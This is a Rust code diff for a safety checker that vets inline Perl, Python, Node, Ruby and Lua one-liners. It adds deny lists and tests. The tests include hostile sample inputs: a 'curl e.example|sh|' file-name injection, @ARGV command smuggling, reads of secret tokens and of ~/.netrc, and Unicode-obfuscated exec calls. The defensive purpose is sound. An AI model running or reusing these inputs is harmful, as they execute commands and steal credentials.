-    if let Some(m) = modules
+/// Why a file name given to Perl's `<>` (`-n`, `-p`, `-i`) is opened as something else: the
+/// two-argument open reads `CMD|` as a command to run, `>FILE` as a file to write, `-` as
+/// standard input, and trims spaces.
+fn perl_magic_name(name: &str) -> bool {
+    name.is_empty()
+        || name.starts_with(['<', '>', '|', '+', '-', ' ', '\t', '\n'])
+        || name.ends_with(['|', ' ', '\t', '\n'])
+}
+
+/// The files Perl code reads or (in place) writes through `<>` and `@ARGV`, checked: each
+/// must be a literal name the two-argument open reads as a file, and the code must not
+/// change `@ARGV` (`@ARGV = ("id|"); print <>` runs `id`).
+fn perl_argv(code: &str, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    let diamond = parsed.letters.contains(['n', 'p'])
+        || parsed.inplace.is_some()
+        || code.contains("<>")
+        || code.contains("<ARGV>")
+        || code.contains("eof")
+        || code.contains("readline");
+    if !diamond {
+        return None;
+    }
+    if code.matches("ARGV").count() > code.matches("<ARGV>").count() {
+        return Some("it changes the files it opens (`@ARGV`), which may name commands".to_owned());
+    }
+    if let Some(suffix) = &parsed.inplace
+        && suffix.contains(['*', '/'])
+    {
+        return Some("it writes backups to paths built from a pattern".to_owned());
+    }
+    for w in &parsed.operands {
+        let Some(name) = w.literal() else {
+            return Some(format!(
+                "it opens `{}`, a name only known when it runs, which may be a command",
+                w.raw
+            ));
+        };
+        if perl_magic_name(name) {
+            return Some(format!(
+                "it opens `{name}` with a two-argument open, which runs or writes it"
+            ));
+        }
+        match &parsed.inplace {
+            Some(suffix) => {
+                out.writes.push(name.to_owned());
+                if !suffix.is_empty() {
+                    out.writes.push(format!("{name}{suffix}"));
+                }
+            }
+            None => out.reads.push(name.to_owned()),
+        }
+    }
+    None
+}
+
+/// Perl's options that change nothing of what the code reaches.
+const PERL_PLAIN_OPTIONS: &str = "eEnlpaw0";
+
+fn perl(code: &str, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    if let Some(m) = parsed
+        .modules
         .iter()
         .find(|m| !PERL_SAFE_MODULES.contains(&m.split(['=', ' ']).next().unwrap_or(m)))
     {
         return Some(format!("it loads `{m}`"));
+    }
+    if let Some(why) = perl_argv(code, parsed, out) {
+        return Some(why);
+    }
+    // The environment only by a public name.
+    for (id, at) in identifiers(code) {
+        if id == "ENV" {
+            let sub = code[at..]
+                .strip_prefix('{')
+                .and_then(|r| r.split_once('}'))
+                .map(|(s, _)| s);
+            if sub.is_none_or(super::inline_perl::env_subscript_secret) {
+                return Some(
+                    "it reads the environment, which may hold secrets, by a name not known to be public"
+                        .to_owned(),
+                );
+            }
+        }
+    }
+    if let Some(c) = parsed
+        .letters
+        .chars()
+        .find(|c| !PERL_PLAIN_OPTIONS.contains(*c) && !matches!(c, 'i' | 'M' | 'm'))
+    {
+        out.unmodeled(format!("it is run with the option `-{c}`"));
+    }
+    if parsed.long {
+        out.unmodeled("it is run with a long option");
+    }
+    if parsed
+        .modules
+        .iter()
+        .any(|m| !matches!(m.as_str(), "strict" | "warnings"))
+    {
+        out.unmodeled("it loads a module whose functions are not all read here");
+    }
+    // Code the token reader proves harmless is not checked against the names below, which
+    // are matched in strings too.
+    match super::inline_perl::unproven(code) {
+        None => return None,
+        Some(why) => out.unmodeled(why),
     }
     if let Some(id) = uses(code, PERL_UNSAFE) {
         return Some(format!("it uses `{id}`"));
@@ -1679,7 +2382,8 @@ fn perl(code: &str, modules: &[String]) -> Option<String> {
             .take_while(|c| c.is_ascii_lowercase())
             .copied()
             .collect();
-        if flags.contains(&b'e') {
+        // Only a run of substitution flags can be one (`"hello"` is not).
+        if flags.contains(&b'e') && flags.iter().all(|f| b"msixpodualngcer".contains(f)) {
             return Some("a substitution may evaluate its replacement as code".to_owned());
         }
     }
@@ -1750,8 +2454,10 @@ const RUBY_UNSAFE: &[&str] = &[
     "Class",
 ];
 
-fn ruby(code: &str, modules: &[String]) -> Option<String> {
-    if let Some(m) = modules
+fn ruby(code: &str, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    out.unmodeled("Ruby's start is not checked here");
+    if let Some(m) = parsed
+        .modules
         .iter()
         .find(|m| !matches!(m.as_str(), "json" | "set"))
     {
@@ -1762,6 +2468,25 @@ fn ruby(code: &str, modules: &[String]) -> Option<String> {
     }
     if code.contains('`') || code.contains("%x") || code.contains("$-i") {
         return Some("it runs a command".to_owned());
+    }
+    // `ruby -i -pe CODE FILE` rewrites each file.
+    if parsed.inplace.is_some() {
+        if let Some(suffix) = &parsed.inplace
+            && suffix.contains(['*', '/'])
+        {
+            return Some("it writes backups to paths built from a pattern".to_owned());
+        }
+        for w in &parsed.operands {
+            match w.literal() {
+                Some(name) => out.writes.push(name.to_owned()),
+                None => {
+                    return Some(format!(
+                        "it rewrites `{}`, a name only known when it runs",
+                        w.raw
+                    ));
+                }
+            }
+        }
     }
     None
 }
@@ -1857,6 +2582,56 @@ const LUA_SAFE: &[&str] = &[
     "or", "not", "nil", "true", "false", "byte", "char", "find", "gsub", "match", "gmatch",
     "reverse", "n",
 ];
+
+/// Lua names that run programs, write or read files, load code, or reach every global by a
+/// name built at run time (`_G["os"]`, `load`, `debug`); `io` is read separately
+/// (`io.write`, `io.read` only print and read standard input).
+const LUA_UNSAFE: &[&str] = &[
+    "os",
+    "load",
+    "loadstring",
+    "loadfile",
+    "dofile",
+    "require",
+    "package",
+    "debug",
+    "_G",
+    "_ENV",
+    "getfenv",
+    "setfenv",
+    "module",
+    "rawget",
+    "rawset",
+    "dump",
+    "newproxy",
+    "getmetatable",
+    "setmetatable",
+];
+
+fn lua(code: &str, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    out.unmodeled("Lua's start is not checked here");
+    if let Some(id) = uses(code, LUA_UNSAFE) {
+        return Some(format!("it uses `{id}`"));
+    }
+    for (id, at) in identifiers(code) {
+        if id == "io" {
+            let attr = next_is(code, at, '.').and_then(|p| ident_at(code, p));
+            if !attr.is_some_and(|(a, _)| matches!(a, "write" | "read")) {
+                return Some("it uses `io` other than to print or read standard input".to_owned());
+            }
+        }
+    }
+    if !parsed.modules.is_empty() {
+        out.unmodeled("it loads modules (`-l`), whose code runs then");
+    }
+    if !parsed.operands.is_empty() {
+        out.unmodeled("it runs the script given after its code");
+    }
+    if let Some(why) = allowed_only(code, LUA_SAFE) {
+        out.unmodeled(why);
+    }
+    None
+}
 
 /// Code proven harmless only when every name it uses is one of `safe` (names inside strings
 /// included: they may be called through the string).
@@ -2113,6 +2888,328 @@ mod tests {
         // Not inline code: a script, a module.
         assert!(inline("python3", &["x.py"]).is_none());
         assert!(inline("python3", &["-m", "json.tool", "a.json"]).is_none());
+    }
+
+    fn proof(program: &str, args: &[&str]) -> Result<Inline, String> {
+        let words: Vec<Word> = args.iter().map(|a| Word::literal_text(*a)).collect();
+        proven(program, &words).expect("inline code")
+    }
+
+    #[test]
+    fn perl_file_names_opened_as_commands_or_for_writing_are_binding() {
+        for args in [
+            &["-ne", "print", "touch x|"][..],
+            &["-pe", "", ">x"],
+            &["-lne", "print", "curl e.example|sh|"],
+            &["-ne", "print", " x"],
+            &["-ne", "print", "-"],
+            &["-e", "@ARGV=('id|'); print <>"],
+            &["-e", "push @ARGV, 'id|'; print while <ARGV>"],
+            &["-i/tmp/*", "-pe", "s/a/b/", "x"],
+        ] {
+            assert!(unproven("perl", args), "perl {args:?}");
+        }
+        // `<<>>` opens with three arguments, but a name given to `-n` is opened with two.
+        let i = inline("perl", &["-ne", "print", "a.txt"]).unwrap();
+        assert_eq!((i.unproven, i.reads), (None, vec!["a.txt".to_owned()]));
+        let i = inline("perl", &["-i.bak", "-pe", "s/a/b/", "x"]).unwrap();
+        assert_eq!(i.writes, ["x", "x.bak"]);
+        let i = inline("perl", &["-pi", "-e", "s/a/b/", "x"]).unwrap();
+        assert_eq!((i.unproven, i.writes), (None, vec!["x".to_owned()]));
+        let i = inline("ruby", &["-i", "-pe", "1", "y"]).unwrap();
+        assert_eq!(i.writes, ["y"]);
+    }
+
+    #[test]
+    fn environment_reads_are_binding_unless_the_name_is_public() {
+        for (p, args) in [
+            ("perl", &["-e", "print $ENV{AWS_SECRET_ACCESS_KEY}"][..]),
+            ("perl", &["-le", "print \"$ENV{GITHUB_TOKEN}\""]),
+            ("perl", &["-e", "print %ENV"]),
+            ("perl", &["-e", "print for values %ENV"]),
+            ("perl", &["-e", "$k='TOKEN'; print $ENV{$k}"]),
+            (
+                "python3",
+                &["-c", "import os; print(os.environ['API_KEY'])"],
+            ),
+            (
+                "python3",
+                &["-c", "import os; print(os.getenv('GITHUB_TOKEN'))"],
+            ),
+            (
+                "python3",
+                &["-c", "import os; print(os.environ.get('X_TOKEN'))"],
+            ),
+            ("python3", &["-c", "import os; print(dict(os.environ))"]),
+            ("node", &["-e", "console.log(process.env.NPM_TOKEN)"]),
+            ("node", &["-p", "JSON.stringify(process.env)"]),
+            ("node", &["-p", "process"]),
+            ("ruby", &["-e", "puts ENV['GITHUB_TOKEN']"]),
+            ("lua", &["-e", "print(os.getenv('GITHUB_TOKEN'))"]),
+        ] {
+            assert!(unproven(p, args), "{p} {args:?}");
+        }
+        for (p, args) in [
+            ("perl", &["-e", "print $ENV{HOME}"][..]),
+            ("perl", &["-e", "print \"$ENV{'USER'}\\n\""]),
+            ("python3", &["-c", "import os; print(os.environ['HOME'])"]),
+            ("python3", &["-c", "import os; print(os.getenv('PATH'))"]),
+            ("node", &["-p", "process.env.HOME"]),
+        ] {
+            assert!(!unproven(p, args), "{p} {args:?}");
+        }
+    }
+
+    #[test]
+    fn names_spelled_by_escapes_or_other_characters_are_binding() {
+        for (p, args) in [
+            (
+                "node",
+                &["-e", r#"\u0072equire("child_process").execSync("id")"#][..],
+            ),
+            ("node", &["-e", r#"re\u0071uire("fs")"#]),
+            (
+                "python3",
+                &["-c", "ｅｘｅｃ(bytes.fromhex('6964').decode())"],
+            ),
+            ("python3", &["-c", "print(f'{ｅｖａｌ(chr(49))}')"]),
+            ("python3", &["-c", "ｇｅｔａｔｔｒ(1, 'real')"]),
+        ] {
+            assert!(unproven(p, args), "{p} {args:?}");
+        }
+        // Text in strings and comments is not a name.
+        assert!(!unproven("python3", &["-c", "print('héllo') # ünïcode"]));
+    }
+
+    #[test]
+    fn reads_of_files_named_at_run_time_are_binding() {
+        for (p, args) in [
+            (
+                "python3",
+                &[
+                    "-c",
+                    "import os; print(open(os.path.expanduser('~')+'/.n'+'etrc').read())",
+                ][..],
+            ),
+            ("python3", &["-c", "p='x'; print(open(p).read())"]),
+            (
+                "python3",
+                &[
+                    "-c",
+                    "import pathlib; print(pathlib.Path.home().read_text())",
+                ],
+            ),
+            (
+                "python3",
+                &["-c", "import pathlib as p; p.Path('x').write_text('y')"],
+            ),
+            (
+                "python3",
+                &["-c", "from pathlib import Path; P = Path; P('x').unlink()"],
+            ),
+            (
+                "node",
+                &[
+                    "-e",
+                    "require('fs').readFileSync(require('os').homedir()+'/.npmrc')",
+                ],
+            ),
+            (
+                "node",
+                &["-e", "require('fs').readFileSync('x', {flag: 'w'})"],
+            ),
+            (
+                "node",
+                &[
+                    "-e",
+                    "const fs=require('fs'); const w=fs; w.writeFileSync('x','y')",
+                ],
+            ),
+            ("node", &["-e", "const fs=require('fs'); fs.rmSync('x')"]),
+            (
+                "node",
+                &["-e", "let f = require('node:fs'); f.readFileSync(p)"],
+            ),
+        ] {
+            assert!(unproven(p, args), "{p} {args:?}");
+        }
+    }
+
+    #[test]
+    fn read_only_one_liners_are_not_binding_and_give_their_reads() {
+        let reads = |p: &str, args: &[&str]| {
+            let i = inline(p, args).unwrap();
+            assert_eq!(i.unproven, None, "{p} {args:?}");
+            i.reads
+        };
+        assert_eq!(
+            reads(
+                "python3",
+                &[
+                    "-c",
+                    "import pathlib; print(pathlib.Path('README.md').read_text())"
+                ]
+            ),
+            ["README.md"]
+        );
+        assert_eq!(
+            reads(
+                "python3",
+                &[
+                    "-c",
+                    "from pathlib import Path as P; print(P('a.txt').exists())"
+                ]
+            ),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            reads(
+                "python3",
+                &[
+                    "-c",
+                    "import json,sys; print(json.load(open(sys.argv[1])))",
+                    "a.json"
+                ]
+            ),
+            ["a.json"]
+        );
+        assert_eq!(
+            reads(
+                "node",
+                &[
+                    "-e",
+                    "console.log(require('fs').readFileSync('package.json','utf8'))"
+                ]
+            ),
+            ["package.json"]
+        );
+        assert_eq!(
+            reads(
+                "node",
+                &[
+                    "-e",
+                    "const fs = require('fs'); console.log(fs.readFileSync('a'), fs.existsSync('b'))"
+                ]
+            ),
+            ["a"]
+        );
+        // Imports run the package's code, as a script of the system would: unproven, never
+        // binding for that alone; only the version of a package not read here is used.
+        for (p, args) in [
+            ("python3", &["-c", "import yaml"][..]),
+            ("python3", &["-c", "import numpy; print(numpy.__version__)"]),
+            (
+                "python3",
+                &["-c", "import yaml,sys; print(yaml.safe_load(sys.stdin))"],
+            ),
+            (
+                "node",
+                &["-e", "console.log(require('./package.json').version)"],
+            ),
+            ("lua", &["-e", "print(\"hello world\")"]),
+            ("lua", &["-e", "io.write(string.rep('-', 3))"]),
+            ("perl", &["-e", "print \"hello\\n\"; sleep 1"]),
+        ] {
+            let i = inline(p, args).unwrap();
+            assert_eq!(i.unproven, None, "{p} {args:?}");
+            assert!(i.unmodeled.is_some(), "{p} {args:?}");
+        }
+        for (p, args) in [
+            ("python3", &["-c", "import numpy; numpy.save('x', 1)"][..]),
+            ("python3", &["-c", "import antigravity"]),
+            (
+                "python3",
+                &[
+                    "-c",
+                    "import yaml; yaml.load(open('x'), Loader=yaml.Loader)",
+                ],
+            ),
+            ("lua", &["-e", "io.popen('id')"]),
+            ("lua", &["-e", "_G['o'..'s'].execute('id')"]),
+            ("lua", &["-e", "print(load('return 1')())"]),
+            ("lua", &["-e", "print(string.dump(print))"]),
+        ] {
+            assert!(unproven(p, args), "{p} {args:?}");
+        }
+    }
+
+    #[test]
+    fn only_code_of_checked_interpreters_read_in_full_is_proven() {
+        let ok = |p: &str, args: &[&str]| {
+            proof(p, args).unwrap_or_else(|why| panic!("{p} {args:?}: {why}"))
+        };
+        assert_eq!(
+            ok("python3", &["-c", "print(open('README.md').read())"]).reads,
+            ["README.md"]
+        );
+        ok(
+            "python3",
+            &["-c", "import os, sys; print(os.cpu_count(), sys.version)"],
+        );
+        ok(
+            "python3",
+            &["-Bc", "from os import path; print(path.exists('x'))"],
+        );
+        ok("node", &["-e", "console.log(1 + 2, process.platform)"]);
+        ok(
+            "node",
+            &["-p", "const a = [1, 2]; a.map(x => x * 2).join(',')"],
+        );
+        assert_eq!(
+            ok(
+                "node",
+                &["-p", "require('fs').readFileSync('a.txt', 'utf8')"]
+            )
+            .reads,
+            ["a.txt"]
+        );
+        assert_eq!(
+            ok("perl", &["-lne", "print if /x/", "a.txt"]).reads,
+            ["a.txt"]
+        );
+        ok("perl", &["-le", "print 1+1"]);
+        ok(
+            "perl",
+            &[
+                "-Mstrict",
+                "-e",
+                "print join ',', sort { $a <=> $b } (3, 1)",
+            ],
+        );
+        // Python finds modules other than those loaded at its start in the directory first.
+        for (p, args) in [
+            ("python3", &["-c", "import json; print(json.dumps(1))"][..]),
+            (
+                "python3",
+                &["-c", "from json import dumps; print(dumps(1))"],
+            ),
+            ("python3", &["-Sc", "import os; print(os.sep)"]),
+            ("python3", &["-c", "print(1)", "arg"]),
+            ("node", &["-e", "fetch('https://example.com')"]),
+            (
+                "node",
+                &["-e", "console.log(require('./package.json').version)"],
+            ),
+            ("node", &["-e", "console.log(require('os').hostname())"]),
+            ("node", &["-e", "console.log(1/2)"]),
+            ("node", &["-r", "./x.js", "-e", "1"]),
+            ("perl", &["-e", "print `id`"]),
+            ("perl", &["-d", "-e", "1"]),
+            ("perl", &["-MPOSIX", "-e", "print 1"]),
+            ("perl", &["-e", "print time / 2; unlink 'x'; #/"]),
+            ("ruby", &["-e", "puts 1"]),
+            ("lua", &["-e", "print(1)"]),
+            ("php", &["-r", "echo 1;"]),
+            ("bun", &["-e", "console.log(1)"]),
+        ] {
+            assert!(proof(p, args).is_err(), "{p} {args:?}");
+        }
+        // Python's tracebacks import modules the directory may shadow.
+        assert!(
+            ok("python3", &["-c", "print(1)"])
+                .forbids
+                .contains(&"traceback.py".to_owned())
+        );
     }
 
     #[test]
